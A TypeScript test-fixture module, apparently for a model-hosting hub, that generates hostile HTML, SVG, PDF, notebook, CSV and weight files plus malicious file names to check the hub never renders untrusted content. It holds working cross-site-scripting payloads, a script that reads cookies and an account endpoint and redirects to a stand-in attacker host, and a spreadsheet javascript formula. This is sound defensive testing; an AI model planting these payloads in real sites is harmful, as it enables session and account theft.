import { HOSTILE_CARDS, hostileMatter, SCRIPT } from './hostile-cards.ts'

/** Markup for places that should show text only. */
export const mark = (place: string): string => `"'><img src=x onerror="attacked('${place}')"><svg onload=attacked('${place}')>{{${place}}}`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script><a href="javascript:${SCRIPT}"><text y="20">x</text></a></svg>`
/** A page whose script would run if the hub served it as HTML. */
export const HOSTILE_HTML = `<!doctype html><title>attacked</title><script>${SCRIPT}</script><img src=x onerror="${SCRIPT}"><meta http-equiv=refresh content="0;url=https://evil.example/">`
const PDF = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>`
const NOTEBOOK = JSON.stringify({
	nbformat: 4,
	nbformat_minor: 5,
	metadata: { kernelspec: { name: mark('kernel'), display_name: mark('kernel') }, title: mark('notebook') },
	cells: [
		{ cell_type: 'markdown', metadata: {}, source: [`${mark('cell')}\n\n<script>${SCRIPT}</script>`] },
		{
			cell_type: 'code',
			execution_count: 1,
			metadata: {},
			source: `print("${mark('code')}")`,
			outputs: [
				{ output_type: 'display_data', metadata: {}, data: { 'text/html': [`<script>${SCRIPT}</script><img src=x onerror=${SCRIPT}>`] } },
				{ output_type: 'display_data', metadata: {}, data: { 'image/svg+xml': SVG, 'application/javascript': SCRIPT } },
				{
					output_type: 'display_data',
					metadata: {},
					data: { 'image/png': `x" onerror="${SCRIPT}`, 'text/latex': `$\\href{javascript:${SCRIPT}}{x}$` },
				},
				{ output_type: 'stream', name: 'stdout', text: `\u001b[31m${mark('stream')}\u001b[0m` },
				{ output_type: 'error', ename: mark('error'), evalue: mark('error'), traceback: [mark('traceback')] },
			],
		},
		{ cell_type: 'raw', metadata: { format: 'text/html' }, source: HOSTILE_HTML },
	],
})
/** A static app that tries to reach the page around it. The test notices `stolen`; the app's own scripts may run. */
export const HOSTILE_APP = `<!doctype html><title>x</title><p>App</p><script>
const attempt = (what, work) => { try { const done = work(); if (done && done.then) done.then((text) => text && stolen(what), () => {}); else if (done) stolen(what) } catch {} }
attempt('cookie', () => document.cookie)
attempt('parent', () => parent.document.title)
attempt('top', () => { top.location = 'https://evil.example/'; return false })
attempt('storage', () => localStorage.setItem('a', 'b') ?? true)
attempt('account', () => fetch('/api/whoami-v2', { credentials: 'include' }).then((answer) => answer.ok && answer.text()))
attempt('popup', () => open('https://evil.example/') !== null)
attempt('worker', () => navigator.serviceWorker.register('x.js').then(() => true))
alert('attacked')
</script>`

const WEIGHTS = {
	[mark('tensor')]: { dtype: mark('dtype'), shape: [1], data_offsets: [0, 4] },
	__metadata__: { [mark('key')]: mark('value') },
}

/** Weights in which every name is hostile, in base64. */
export function hostileWeights(): string {
	const text = JSON.stringify(WEIGHTS)
	const length = Buffer.alloc(8)
	length.writeBigUInt64LE(BigInt(Buffer.byteLength(text)))
	return Buffer.concat([length, Buffer.from(text), Buffer.alloc(4)]).toString('base64')
}

/** Files of every kind, by path. */
export const HOSTILE_FILES: Record<string, string> = {
	'page.html': HOSTILE_HTML,
	'page.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>${SCRIPT.replaceAll('&', '&amp;')}</script></html>`,
	'page.htm': HOSTILE_HTML,
	'page.mht': `MIME-Version: 1.0\nContent-Type: text/html\n\n${HOSTILE_HTML}`,
	'picture.svg': SVG,
	'sheet.xml': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="sheet.xsl"?><x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${SCRIPT}</h:script></x>`,
	'sheet.xsl': `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>${SCRIPT}</script></xsl:template></xsl:stylesheet>`,
	'paper.pdf': PDF,
	'x.js': SCRIPT,
	'x.mjs': SCRIPT,
	'x.css': `@import 'https://evil.example/x.css'; * { display: none }`,
	'x.wasm': '\0asm\x01\0\0\0',
	'x.unknown': HOSTILE_HTML,
	noending: HOSTILE_HTML,
	'x.swf': HOSTILE_HTML,
	'notes.md': `${hostileMatter()}${HOSTILE_CARDS.slice(0, 8).join('\n')}`,
	'book.ipynb': NOTEBOOK,
	'config.json': JSON.stringify({ model_type: mark('type'), architectures: [mark('architecture')], id2label: { 0: mark('label') } }),
	'tokenizer_config.json': JSON.stringify({ chat_template: `{{ ${mark('template')} }}`, eos_token: mark('token') }),
	'generation_config.json': JSON.stringify({ [mark('key')]: mark('value') }),
	'data.csv': `${mark('column')},b\n${mark('cell')},=HYPERLINK("javascript:attacked(1)")\n`,
	'data.jsonl': `${JSON.stringify({ [mark('column')]: mark('cell') })}\n`,
	'lines.txt': `${mark('line')}\n\u202e${mark('line')}\n`,
	'diff.txt': `first\n`,
	'index.html': HOSTILE_HTML,
}

/** File names that would run where a page shows them. */
export const HOSTILE_NAMES: readonly string[] = [
	'"><img src=x onerror=attacked(1)>.txt',
	"';attacked(2);'.md",
	'<svg onload=attacked(3)>.ipynb',
	'javascript:attacked(4)',
	'\u202egnp.exe.svg',
	'{{x}}${x}.html',
]
